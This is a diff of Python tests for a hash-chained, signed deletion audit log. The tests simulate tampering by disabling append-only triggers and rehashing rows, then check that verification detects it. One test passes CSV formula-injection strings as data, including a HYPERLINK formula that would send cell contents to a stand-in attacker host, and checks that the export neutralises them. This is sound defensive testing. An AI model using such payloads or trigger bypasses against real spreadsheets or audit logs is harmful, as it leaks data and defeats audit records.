@@ -47,17 +47,20 @@ def _write(engine: Engine, keys: AuditKeys, runs: int = 2, per_run: int = 3) -> 
 
 def _tamper(engine: Engine, *statements: str | tuple[str, dict[str, object]]) -> None:
     """Bypass the append-only guard the way a database superuser could, then restore it."""
+    tables = ("deletion_log", "deletion_log_heads")
     with engine.begin() as conn:
-        if engine.dialect.name == "postgresql":
-            conn.exec_driver_sql("ALTER TABLE deletion_log DISABLE TRIGGER deletion_log_append_only")
-        else:
-            conn.exec_driver_sql("DROP TRIGGER deletion_log_no_update")
-            conn.exec_driver_sql("DROP TRIGGER deletion_log_no_delete")
+        for table in tables:
+            if engine.dialect.name == "postgresql":
+                conn.exec_driver_sql(f"ALTER TABLE {table} DISABLE TRIGGER {table}_append_only")
+            else:
+                conn.exec_driver_sql(f"DROP TRIGGER IF EXISTS {table}_no_update")
+                conn.exec_driver_sql(f"DROP TRIGGER IF EXISTS {table}_no_delete")
         for statement in statements:
             sql, params = statement if isinstance(statement, tuple) else (statement, {})
             conn.execute(sa.text(sql), params)
         if engine.dialect.name == "postgresql":
-            conn.exec_driver_sql("ALTER TABLE deletion_log ENABLE TRIGGER deletion_log_append_only")
+            for table in tables:
+                conn.exec_driver_sql(f"ALTER TABLE {table} ENABLE TRIGGER {table}_append_only")
 
 
 def test_intact_log_verifies_with_chain_and_heads(engine: Engine, keys: AuditKeys) -> None:
@@ -125,26 +128,78 @@ def test_swapped_entries_are_named(engine: Engine, keys: AuditKeys) -> None:
     assert "does not follow entry seq 1" in report.problem
 
 
-def test_rewritten_chain_is_caught_by_the_signed_head(engine: Engine, keys: AuditKeys) -> None:
-    """Editing an entry and recomputing every later hash still breaks the signed head."""
+def _rewrite_from(engine: Engine, seq: int) -> None:
+    """Edit entry ``seq`` and recompute its hash and every later link and hash, as a careful forger would."""
     from governance.audit.chain import HASHED_FIELDS, entry_hash
 
-    _write(engine, keys, runs=1)
     with engine.connect() as conn:
         rows = [list(r) for r in conn.execute(sa.text(
             f"SELECT {', '.join(HASHED_FIELDS)}, prev_hash FROM deletion_log ORDER BY seq"))]  # noqa: S608
-    rows[1][HASHED_FIELDS.index("method")] = "anonymise"
-    prev, statements = rows[0][-1], []
+    rows[seq - 1][HASHED_FIELDS.index("method")] = "anonymise"
+    prev, statements = rows[seq - 1][-1], []
     rewrite = "UPDATE deletion_log SET method = :method, prev_hash = :prev, hash = :hash WHERE seq = :seq"
-    for row in rows:
+    for row in rows[seq - 1:]:
         digest = entry_hash(prev, row[:-1])
         statements.append((rewrite, {"method": row[HASHED_FIELDS.index("method")], "prev": prev, "hash": digest,
                                      "seq": row[0]}))
         prev = digest
     _tamper(engine, *statements)
+
+
+def test_rewritten_chain_is_caught_by_the_signed_head(engine: Engine, keys: AuditKeys) -> None:
+    """Editing an entry and recomputing every later hash still breaks the signed head."""
+    _write(engine, keys, runs=1)
+    _rewrite_from(engine, 2)
     report = verify_chain(engine, keys.public_key)
     assert not report.ok
     assert "signed head" in report.problem
+
+
+def test_a_rewritten_chain_is_named_at_the_first_altered_entry(engine: Engine, keys: AuditKeys) -> None:
+    """Entry 5 edited and entries 5..12 rehashed: the head is at 12, the report names 5."""
+    _write(engine, keys, runs=1, per_run=12)
+    _rewrite_from(engine, 5)
+    report = verify_chain(engine, keys.public_key)
+    assert (report.ok, report.first_bad_seq) == (False, 5), report.problem
+    assert "entry seq 5 was altered" in report.problem and "first seen at seq 12" in report.problem
+
+
+def test_heads_are_append_only(engine: Engine, keys: AuditKeys) -> None:
+    _write(engine, keys)
+    for statement in ("UPDATE deletion_log_heads SET entries = 1", "DELETE FROM deletion_log_heads WHERE id = 1"):
+        with pytest.raises(sa.exc.DatabaseError, match="deletion_log_heads is append-only"), engine.begin() as conn:
+            conn.exec_driver_sql(statement)
+    if engine.dialect.name == "postgresql":
+        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
+            conn.exec_driver_sql("TRUNCATE deletion_log_heads")
+    assert verify_chain(engine, keys.public_key).ok
+
+
+def test_a_head_removed_from_the_middle_is_named(engine: Engine, keys: AuditKeys) -> None:
+    _write(engine, keys, runs=3)
+    _tamper(engine, "DELETE FROM deletion_log_heads WHERE run_id = 'run-1'")
+    report = verify_chain(engine, keys.public_key)
+    assert (report.ok, report.first_bad_seq) == (False, 4), report.problem
+    assert "do not tile the log at seq 4..6" in report.problem
+
+
+def test_csv_export_neutralises_formula_prefixes(engine: Engine, keys: AuditKeys, tmp_path: Path) -> None:
+    log = DeletionLog(engine, keys)
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
+    entries = [LogEntry(requested_by=basis, subject_hash=keys.pseudonymise(f"F{i}"), categories=["candidate_profile"],
+                        stores=["hub.candidates"], legal_basis=basis, method="delete", done_at=DONE)
+               for i, basis in enumerate(hostile)]
+    with engine.begin() as conn:
+        log.append(conn, "run-csv", entries)
+    out = tmp_path / "log.csv"
+    export_log(engine, verify_chain(engine, keys.public_key), date(2026, 3, 10), date(2026, 3, 10), "csv", out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        handle.readline()  # the chain-status comment
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == 6
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [row["Legal basis"] for row in rows] == ["'" + basis for basis in hostile]  # kept, shown as text
+    assert [row["Requested by"] for row in rows] == ["'" + basis for basis in hostile]
 
 
 def test_forged_head_signature_and_unsigned_tail(engine: Engine, keys: AuditKeys, tmp_path: Path) -> None:
@@ -152,8 +207,7 @@ def test_forged_head_signature_and_unsigned_tail(engine: Engine, keys: AuditKeys
     other = AuditKeys.load_or_create(tmp_path / "other", env={})
     report = verify_chain(engine, other.public_key)
     assert not report.ok and "not the trusted key" in report.problem
-    with engine.begin() as conn:
-        conn.exec_driver_sql("UPDATE deletion_log_heads SET head_seq = head_seq - 1")
+    _tamper(engine, "UPDATE deletion_log_heads SET head_seq = head_seq - 1")
     report = verify_chain(engine, keys.public_key)
     assert not report.ok and "does not verify" in report.problem
 
